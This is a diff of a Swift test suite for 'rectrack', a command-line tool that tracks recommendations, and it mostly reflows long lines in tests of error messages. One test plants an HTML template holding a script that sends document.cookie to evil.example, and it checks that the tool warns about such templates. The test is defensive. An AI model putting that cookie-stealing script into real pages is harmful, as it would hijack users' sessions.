@@ -24,7 +24,8 @@ import Testing
     #expect(folder.stderr.hasPrefix("error: \(repo.scratch) is a folder, not a sheet."), "\(folder.stderr)")
     #expect(!folder.stderr.contains("NSCocoaErrorDomain"))
     let missing = try rectrack("import", repo.scratch + "/nothing.csv")
-    #expect(missing.stderr.hasPrefix("error: there is no file \(repo.scratch)/nothing.csv."), "\(missing.stderr)")
+    #expect(
+      missing.stderr.hasPrefix("error: there is no file \(repo.scratch)/nothing.csv."), "\(missing.stderr)")
 
     let file = repo.scratch + "/passwd"
     try "root:x:0:0\n".write(toFile: file, atomically: true, encoding: .utf8)
@@ -36,15 +37,19 @@ import Testing
 
   @Test func aDuplicateNewSaysTheIDIsTaken() throws {
     let before = try head()
-    let r = try rectrack("new", "--id", "DP-01", "--title", "t", "--source", "s", "--owner", "o", "--author", author)
+    let r = try rectrack(
+      "new", "--id", "DP-01", "--title", "t", "--source", "s", "--owner", "o", "--author", author)
     #expect(r.status == 2)
-    #expect(r.stderr == "error: recommendation DP-01 already exists at Recommendations/DP-01.yml. Choose another ID.\n")
+    #expect(
+      r.stderr
+        == "error: recommendation DP-01 already exists at Recommendations/DP-01.yml. Choose another ID.\n")
     #expect(try head() == before)
   }
 
   @Test func newWritesTheSourceHeadingAsItIsNotAsHTML() throws {
     let r = try rectrack(
-      "new", "--id", "DP-03", "--title", "Fish & chips <b>", "--source", "Review: Q&A <2021> \"x\"", "--owner", "o",
+      "new", "--id", "DP-03", "--title", "Fish & chips <b>", "--source", "Review: Q&A <2021> \"x\"",
+      "--owner", "o",
       "--author", author)
     #expect(r.status == 0, "\(r.stderr)")
     let text = try repo.read("Recommendations/DP-03.yml")
@@ -57,23 +62,29 @@ import Testing
     try repo.commitAll("Roles")
     let r = try rectrack("audit")
     #expect(r.status == 2)
-    #expect(r.stderr.contains("'42' in the 'people' of role 'commissioner' is not an email address"), "\(r.stderr)")
+    #expect(
+      r.stderr.contains("'42' in the 'people' of role 'commissioner' is not an email address"), "\(r.stderr)")
   }
 
   @Test func supersededByMustNameAnExistingRecommendation() throws {
     let before = try head()
-    let r = try rectrack("status", "DP-01", "superseded", "--superseded-by", "DP-99", "--note", "x", "--author", author)
+    let r = try rectrack(
+      "status", "DP-01", "superseded", "--superseded-by", "DP-99", "--note", "x", "--author", author)
     #expect(r.status == 2)
     #expect(r.stderr.contains("DP-99"), "\(r.stderr)")
     #expect(try head() == before)
-    let ok = try rectrack("status", "DP-01", "superseded", "--superseded-by", "DP-02", "--note", "x", "--author", author)
+    let ok = try rectrack(
+      "status", "DP-01", "superseded", "--superseded-by", "DP-02", "--note", "x", "--author", author)
     #expect(ok.status == 0, "\(ok.stderr)")
 
-    try repo.write("Recommendations/DP-02.yml", sampleRecommendation(id: "DP-02", extra: "superseded-by: DP-77\n"))
+    try repo.write(
+      "Recommendations/DP-02.yml", sampleRecommendation(id: "DP-02", extra: "superseded-by: DP-77\n"))
     let validate = try rectrack("validate")
     #expect(validate.status == 1)
     #expect(
-      validate.stdout.contains("Recommendations/DP-02.yml:13:1: error: superseded-by names DP-77, but there is no recommendation DP-77"),
+      validate.stdout.contains(
+        "Recommendations/DP-02.yml:13:1: error: superseded-by names DP-77, but there is no recommendation DP-77"
+      ),
       "\(validate.stdout)")
   }
 
@@ -83,20 +94,23 @@ import Testing
       let r = try CLI.run(args + ["--effective", "1900-01-01", "--author", author], in: repo.path)
       #expect(r.status == 2, "\(args)")
       #expect(
-        r.stderr.hasPrefix("error: --effective 1900-01-01 is before DP-01 was raised (2019-10-01);"), "\(args): \(r.stderr)")
+        r.stderr.hasPrefix("error: --effective 1900-01-01 is before DP-01 was raised (2019-10-01);"),
+        "\(args): \(r.stderr)")
     }
     #expect(try head() == before)
   }
 
   @Test func aRepositoryTemplateWithAScriptIsUsedWithAWarning() throws {
     try repo.write(
-      "Templates/summary.html.mustache", "<html><body><script>fetch('https://evil.example/?'+document.cookie)</script>{{title}}</body></html>\n")
+      "Templates/summary.html.mustache",
+      "<html><body><script>fetch('https://evil.example/?'+document.cookie)</script>{{title}}</body></html>\n")
     try repo.commitAll("Template")
     let r = try rectrack("summary", "--format", "html")
     #expect(r.status == 0, "\(r.stderr)")
     #expect(r.stdout.contains("<script>"))
     #expect(
-      r.stderr.contains("warning: Templates/summary.html.mustache contains '<script': the HTML written from it can run code"),
+      r.stderr.contains(
+        "warning: Templates/summary.html.mustache contains '<script': the HTML written from it can run code"),
       "\(r.stderr)")
     #expect(r.stderr.contains("git log -p Templates/summary.html.mustache"))
     let builtIn = try rectrack("summary", "--format", "md")
